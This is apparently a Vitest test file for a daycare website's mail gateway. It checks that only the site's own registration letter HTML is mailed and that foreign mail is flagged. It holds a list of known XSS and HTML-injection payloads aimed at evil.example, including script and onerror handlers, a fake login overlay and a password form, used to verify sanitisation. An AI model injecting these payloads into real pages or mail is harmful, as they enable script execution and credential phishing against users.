// @vitest-environment jsdom
// Which HTML is mailed to the daycare: that of the site's own registration letter, composed again word for word, and no other (REQ M38).
import { expect, test } from 'vitest';

import { foreignSubjectPrefix, readPosted } from '#gateway/forms/posted.ts';
import { limits } from '#mail/contract.ts';
import { registrationReport } from '#mail/registration-report.ts';

import { filled, now, letterhead, report } from '../../mail/family.ts';
import { openGateway } from '../gateway.ts';

const treeOf = (html: string) =>
  new DOMParser().parseFromString(html, 'text/html').documentElement.outerHTML.replace(/\s+/g, ' ');

test('our own letter keeps every word and every colour', async () => {
  const gateway = await openGateway();
  await gateway.send(report);
  const [mail] = await gateway.mails();
  expect(report.html).toContain('style=');
  expect(treeOf(String(mail?.html))).toBe(treeOf(report.html!));
});

/** One vector of each kind in the well-known collections (OWASP, PortSwigger, html5sec), and tricks that need no script. */
const vectors = String.raw`
<script>alert(1)</script>
<svg/onload=alert(1)>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif">
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="https://evil.example"><input name=password><button formaction="https://evil.example">Log in</button></form>
<details open ontoggle=alert(1)><summary>x</summary></details>
<div style="background:url(https://evil.example/x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Log in again</div>
<p style="margin:0 0 16px ">x</p>
<style>*{display:none}</style>
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<a href="data:text/html,<script>alert(1)</script>">go</a>
<a href="mailto:evil@evil.example?subject=x">Reply to the parent</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)
<!--><script>alert(1)</script>-->
<<p onclick=alert(1)//<p>
`
  .trim()
  .split('\n');

/** What the gateway makes of a letter: the HTML that would be mailed, and the subject. */
function judged(letter: object) {
  return (change: object) => {
    const reading = readPosted({ ...letter, ...change }, [letterhead]);
    if (!('draft' in reading)) throw new Error('refusal' in reading ? reading.refusal.reason : reading.to);
    return reading.draft;
  };
}

test('HTML with anything in it that our own code did not compose is never mailed', async () => {
  const draftOf = judged(report);
  expect(draftOf({}).html).toBe(report.html);
  for (const vector of vectors)
    for (const html of [
      vector,
      `<table><tr><td>${vector}</td></tr></table>`,
      report.html!.replace('</h1>', `</h1>${vector}`),
    ]) {
      const draft = draftOf({ html });
      expect(draft.html, html).toBeUndefined();
      expect(draft.subject).toBe(`${foreignSubjectPrefix} ${report.subject}`);
    }
});

const elementsOf = (html: string) =>
  [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].map((element) =>
    [element.localName, ...[...element.attributes].map(({ name, value }) => `${name}=${value}`)].join(' '),
  );

test('markup typed into every field stays words in our own letter', async () => {
  const expected = elementsOf(
    registrationReport(
      letterhead,
      filled(() => 'x'),
      now,
    ).html!,
  );
  for (const vector of vectors) {
    const letter = registrationReport(letterhead, { ...filled(() => vector.slice(0, 60)), note: vector }, now);
    const { html } = judged(letter)({});
    expect(elementsOf(String(html)), vector).toEqual(expected);
  }
});

test('mail that was not composed by the forms of the site keeps its words, says so first in its subject, and has nobody to reply to', async () => {
  const gateway = await openGateway();
  const subject = 'Invoice '.repeat(limits.subject / 8);
  const foreign = {
    to: letterhead.email,
    subject,
    message: 'Pay here.\n\nName: Eve\nEmail: eve@x.example\nPhone: 1',
    html: '<p>Pay</p>',
  };
  expect((await gateway.send(foreign)).statusCode).toBe(200);
  const [mail] = await gateway.mails();
  expect(mail?.subject?.startsWith(`${foreignSubjectPrefix} Invoice`)).toBe(true);
  expect(mail?.subject).toHaveLength(foreignSubjectPrefix.length + subject.length);
  expect(mail?.text).toContain('Pay here.');
  expect(mail?.html).toBe(false);
  expect(mail?.replyTo).toBeUndefined();
});
